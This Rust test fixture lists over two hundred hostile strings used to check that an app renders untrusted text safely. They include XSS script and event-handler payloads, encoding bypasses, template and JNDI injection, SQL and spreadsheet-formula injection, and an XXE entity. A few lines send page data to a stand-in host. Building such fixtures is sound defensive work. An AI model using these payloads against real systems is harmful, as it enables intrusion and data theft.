//! More than two hundred texts that a careless page would obey instead of show.
//!
//! They are written for this app: each is meant for a place where its texts go, or for one where
//! they might go after a change of it. What would be fetched names [`HOST`], which no browser of these
//! tests can reach and every one of them reports; what would run sets `window.__ran` or opens a
//! dialog.

/// Whoever is asked for anything here was asked by a text.
pub const HOST: &str = "elsewhere.test";

/// The texts by family. In them `HOST` stands for [`HOST`] with a path of the text's own, and `LONG`
/// for a few thousand characters.
const FAMILIES: [(&str, &[&str]); 15] = [
    ("scripts", SCRIPTS),
    ("pictures", PICTURES),
    ("drawings", DRAWINGS),
    ("frames", FRAMES),
    ("heads", HEADS),
    ("forms", FORMS),
    ("handlers", HANDLERS),
    ("breakouts", BREAKOUTS),
    ("encodings", ENCODINGS),
    ("templates", TEMPLATES),
    ("styles", STYLES),
    ("addresses", ADDRESSES),
    ("mails and numbers", MAILS),
    ("records", RECORDS),
    ("characters", CHARACTERS),
];

/// All of them, each different from the others. None begins or ends with white space, because names
/// are trimmed where they are shown.
pub fn all() -> Vec<String> {
    let texts = FAMILIES.iter().flat_map(|(_, texts)| texts.iter());
    texts.zip(0..).map(|(text, number)| whole(text, number)).collect()
}

/// Some of every family, for a run that should not take long.
pub fn few() -> Vec<String> {
    let texts = FAMILIES.iter().flat_map(|(_, texts)| texts.iter().skip(3).step_by(20));
    texts.zip(0..).map(|(text, number)| whole(text, number)).collect()
}

fn whole(text: &str, number: usize) -> String {
    text.replace("HOST", &format!("{HOST}/p{number}"))
        .replace("LONG", &"long enough to break a line somewhere ".repeat(120))
}

const SCRIPTS: &[&str] = &[
    "<script>window.__ran=1</script>",
    "<SCRIPT>alert('upper')</SCRIPT>",
    "<ScRiPt src=http://HOST.js></sCrIpT>",
    "<script src=//HOST.js></script>",
    "<script type=module>import 'http://HOST.mjs'</script>",
    "<script type=module src=\"https://HOST.mjs\"></script>",
    "<script\n>window.__ran='new line'</script\n>",
    "<script/src='http://HOST.js'/></script>",
    "<script src=data:text/javascript,window.__ran=2></script>",
    "<script>fetch('http://HOST')</script>",
    "<script>new Image().src='http://HOST?'+document.title</script>",
    "<script>navigator.sendBeacon('http://HOST',localStorage.length)</script>",
    "<script>new WebSocket('ws://HOST')</script>",
    "<script>location='http://HOST'</script>",
    "<script>document.body.innerHTML='<img src=http://HOST>'</script>",
    "<scr<script>ipt>confirm('nested')</scr</script>ipt>",
    "<<script>prompt('twice')//<</script>",
    "<script>onbeforeunload=()=>'stay'</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<template><script>window.__ran='template'</script></template>",
];

const PICTURES: &[&str] = &[
    "<img src=x onerror=window.__ran=3>",
    "<img src=\"x\" onerror=\"alert('picture')\">",
    "<IMG SRC=http://HOST.png>",
    "<img src=http://HOST.gif width=1 height=1 alt=''>",
    "<img srcset='http://HOST.png 1x, http://HOST-2.png 2x'>",
    "<img/src='x'/onerror=print()>",
    "<img src=x:alert(alt) onerror=eval(src) alt=window.__ran=4>",
    "<image src=x onerror=alert('image')>",
    "<picture><source srcset=http://HOST.webp><img></picture>",
    "<video poster=http://HOST.jpg src=http://HOST.mp4 autoplay onerror=alert('video')></video>",
    "<audio src=http://HOST.mp3 autoplay onerror=alert('audio')>",
    "<input type=image src=http://HOST.png onerror=window.__ran=5>",
    "<body background=http://HOST.png>",
];

const DRAWINGS: &[&str] = &[
    "<svg onload=alert('drawing')>",
    "<svg/onload=window.__ran=6>",
    "<svg><script>window.__ran=7</script></svg>",
    "<svg><script href=http://HOST.js /></svg>",
    "<svg><image href=http://HOST.svg /></svg>",
    "<svg><use href=http://HOST.svg#x /></svg>",
    "<svg><a xlink:href=javascript:window.__ran=8><text y=20>press</text></a></svg>",
    "<svg><animate onbegin=alert('animate') attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=window.__ran=9>",
    "<svg><foreignObject><iframe src=http://HOST></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('math')></style></mglyph></table></mtext></math>",
    "<math href=javascript:window.__ran=10>press</math>",
];

const FRAMES: &[&str] = &[
    "<iframe src=http://HOST></iframe>",
    "<iframe src=javascript:window.parent.__ran=11></iframe>",
    "<iframe srcdoc='<script>parent.__ran=12</script>'></iframe>",
    "<IFRAME SRC=data:text/html,<script>alert('frame')</script>></IFRAME>",
    "<frameset><frame src=http://HOST></frameset>",
    "<object data=http://HOST.swf></object>",
    "<object type=text/html data=data:text/html,<script>alert('object')</script>></object>",
    "<embed src=http://HOST.pdf>",
    "<embed src=javascript:window.__ran=13>",
    "<applet code=http://HOST.class></applet>",
    "<portal src=http://HOST></portal>",
    "<fencedframe src=http://HOST></fencedframe>",
];

const HEADS: &[&str] = &[
    "<base href=http://HOST/>",
    "<BASE HREF='javascript:window.__ran=14//'>",
    "<meta http-equiv=refresh content='0;url=http://HOST'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta name=referrer content=unsafe-url>",
    "<link rel=stylesheet href=http://HOST.css>",
    "<link rel=preload as=script href=http://HOST.js>",
    "<link rel=prefetch href=http://HOST>",
    "<link rel=manifest href=http://HOST.webmanifest>",
    "<link rel=icon href=http://HOST.ico>",
    "</title><script>window.__ran='title'</script>",
    "</head><body onload=alert('body')>",
    "</html><html onclick=window.__ran=15>",
];

const FORMS: &[&str] = &[
    "<form action=http://HOST><input name=a><button>Send</button></form>",
    "<form><button formaction=javascript:window.__ran=16>Send</button></form>",
    "<input autofocus onfocus=alert('focus')>",
    "<select autofocus onfocus=window.__ran=17><option>a</select>",
    "<textarea autofocus onfocus=prompt('area')></textarea>",
    "</textarea><script>window.__ran=18</script>",
    "</option></select><img src=x onerror=alert('option')>",
    "<isindex action=http://HOST prompt=Name>",
    "<keygen autofocus onfocus=window.__ran=19>",
    "<form id=main><input name=innerHTML><input name=attributes></form>",
];

const HANDLERS: &[&str] = &[
    "<details open ontoggle=alert('toggle')><summary>more</summary></details>",
    "<div onmouseover=window.__ran=20 style=position:fixed;inset:0>over all</div>",
    "<p onclick=confirm('press')>press me</p>",
    "<marquee onstart=window.__ran=21>moving</marquee>",
    "<div contenteditable onblur=alert('blur') autofocus tabindex=0>",
    "<a href=# onclick=alert('link')>a link</a>",
    "<dialog open onclose=window.__ran=22><form method=dialog><button>Close</button></form></dialog>",
    "<button popovertarget=more-menu onbeforetoggle=alert('popover')>Open</button>",
    "<div onanimationstart=alert('animation') class=splash>",
    "<div onpointerenter=window.__ran=23 ontouchstart=window.__ran=24>",
    "<xss id=x tabindex=1 onfocusin=alert('own')></xss>",
    "<body onhashchange=window.__ran=25 onpageshow=alert('shown')>",
];

const BREAKOUTS: &[&str] = &[
    "\"><script>window.__ran=26</script>",
    "'><script>window.__ran=27</script>",
    "`><script>window.__ran=28</script>",
    "\" onmouseover=\"alert('double')\" x=\"",
    "' onmouseover='alert(\"single\")' x='",
    "` onmouseover=`alert(1)` x=`",
    "x onfocus=alert('bare') autofocus tabindex=0",
    "\" autofocus onfocus=window.__ran=29 \"",
    "\"/><svg/onload=window.__ran=30>",
    "';window.__ran=31;//",
    "\";window.__ran=32;//",
    "`;window.__ran=33;//",
    "\\\";alert('backslash');//",
    "*/window.__ran=34;/*",
    "</style><script>window.__ran=35</script><style>",
    "--><script>window.__ran=36</script><!--",
    "]]><script>window.__ran=37</script><![CDATA[",
    "<!--<img src=\"--><img src=x onerror=alert('comment')//\">",
    "<![CDATA[<script>window.__ran=38</script>]]>",
    "<?xml version=\"1.0\"?><?php echo 'http://HOST' ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://HOST\">]><x>&e;</x>",
    "<%= `curl http://HOST` %>",
];

const ENCODINGS: &[&str] = &[
    "&lt;script&gt;window.__ran=39&lt;/script&gt;",
    "&#60;script&#62;alert('entity')&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ewindow.__ran=40%3C/script%3E",
    "%253Cscript%253Ealert(2)%253C%252Fscript%253E",
    "\\u003cscript\\u003ewindow.__ran=41\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(3)\\x3e",
    "\\74script\\76 window.__ran=42 \\74/script\\76",
    "\u{ff1c}script\u{ff1e}window.__ran=43\u{ff1c}/script\u{ff1e}",
    "<\u{0}script>window.__ran=44</script>",
    "<img src=x on\u{ad}error=alert(4)>",
    "<scr\u{200b}ipt>window.__ran=45</scr\u{200b}ipt>",
    "+ADw-script+AD4-alert(5)+ADw-/script+AD4-",
    "&amp;lt;b&amp;gt; &nbsp;&copy;&quot;&apos;&notanentity;",
    "<a href=\"&#106;avascript:window.__ran=46\">link</a>",
    "PHNjcmlwdD53aW5kb3cuX19yYW49NDc8L3NjcmlwdD4=",
    "<\u{17f}cript>window.__ran=48</\u{17f}cript>",
    "\u{fe64}img src=x onerror=alert(6)\u{fe65}",
];

const TEMPLATES: &[&str] = &[
    "{{constructor.constructor('window.__ran=49')()}}",
    "{{7*7}} {{{7*7}}} [[7*7]]",
    "${alert('template')} #{7*7} @{7*7}",
    "<%- include('http://HOST') %>",
    "{% import 'http://HOST' %}{{ config }}",
    "{}{name}{0}%s%d%n%x",
    "v-html=\"window.__ran=50\" ng-app x-init=\"alert(7)\" :onclick=\"alert(8)\"",
    "[their name] [[what you share]] [",
    "${jndi:ldap://HOST}",
    "`${fetch('http://HOST')}`",
];

const STYLES: &[&str] = &[
    "<style>*{background:url(http://HOST.png)}</style>",
    "<style>@import 'http://HOST.css';</style>",
    "<STYLE>@font-face{font-family:x;src:url(http://HOST.woff2)}body{font-family:x}</STYLE>",
    "<p style=background:url(http://HOST.png)>styled</p>",
    "<p style='width:expression(window.__ran=51)'>",
    "<xss style='behavior:url(http://HOST.htc)'>",
    "<p style=-moz-binding:url(http://HOST.xml#x)>",
    "url(http://HOST.png);--rows:9999;display:none",
    "}body{display:none}input[value^=a]{background:url(http://HOST)}",
    "\\000041;position:fixed;inset:0;z-index:9999",
];

const ADDRESSES: &[&str] = &[
    "javascript:window.__ran=52",
    "JaVaScRiPt:alert('case')",
    "java\tscript:window.__ran=53",
    "java\nscript:window.__ran=54",
    "\u{1}javascript:window.__ran=55",
    "javascript://example.org/%0Awindow.__ran=56",
    "javascript:\"http://HOST\";window.__ran=57",
    "data:text/html,<script>window.__ran=58</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(10)'/>",
    "vbscript:msgbox(\"11\")",
    "blob:http://HOST",
    "file:///etc/passwd",
    "filesystem:http://HOST/temporary/x",
    "//HOST",
    "\\\\HOST",
    "http:\\\\HOST",
    "http://user:secret@HOST",
    "http://example.org\\@HOST",
    "https://HOST\" onclick=\"window.__ran=59",
    "https://HOST/'-alert(12)-'",
    "https://[::1",
    "http://%zz.HOST",
    "http://\u{430}pple.HOST",
    "https://xn--pple-43d.HOST",
    "HTTP://HOST/#/contacts/00000000-0000-7000-8000-000000000001",
    "view-source:http://HOST",
    "intent://HOST#Intent;scheme=http;end",
    "ws://HOST",
    "chrome://settings",
    "about:blank#window.__ran=60",
    "#/contacts/00000000-0000-7000-8000-000000000001/../../data",
    "#/interviews/<script>alert(13)</script>/live",
    "../../#/data?import=http://HOST",
];

const MAILS: &[&str] = &[
    "mailto:ann@HOST?bcc=eve@elsewhere.test&body=window.__ran=61",
    "ann@example.org?cc=eve@elsewhere.test",
    "ann@example.org%0D%0ABcc:eve@elsewhere.test",
    "ann@example.org\r\nBcc: eve@elsewhere.test",
    "\"<script>alert(14)</script>\"@example.org",
    "ann@example.org,eve@elsewhere.test;mallory@elsewhere.test",
    "ann@ex\u{e4}mple.org",
    "+1 555 CALL-NOW <b onclick=alert(15)>",
    "555;phone-context=elsewhere.test;window.__ran=62",
    "*#06#,,,911",
    "Subject: hello\nX-Injected: http://HOST\n\n<script>window.__ran=63</script>",
];

const RECORDS: &[&str] = &[
    "__proto__",
    "{\"__proto__\":{\"polluted\":true}}",
    "constructor.prototype.polluted",
    "\"},\"body\":null,\"x\":{\"",
    "\\ud800 \\u0000 \\",
    "'; DROP TABLE contacts; --",
    "=HYPERLINK(\"http://HOST\",\"press\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+cmd|'http://HOST'!A0",
    "ask-around:contact:00000000-0000-7000-8000-000000000001",
];

const CHARACTERS: &[&str] = &[
    "\u{202e}gnp.exe.<script>alert(16)</script>",
    "\u{2066}left\u{2069}\u{200f}<img src=x onerror=alert(17)>",
    "nul\u{0}in\u{0}the\u{0}middle<b>",
    "bell\u{7} escape\u{1b}[31m delete\u{7f} next\u{9b}",
    "line\u{2028}and\u{2029}paragraph';window.__ran=64;//",
    "feff\u{feff}ffff\u{ffff}fffd\u{fffd}",
    "one\ntwo\n\n<script>window.__ran=65</script>\nfour",
    "1 < 2 && 3 > 2 || \"a\" != 'b' & <not a tag",
    "LONG<img src=x onerror=alert('long')>",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301} \u{1f469}\u{200d}\u{1f680}<u>",
];
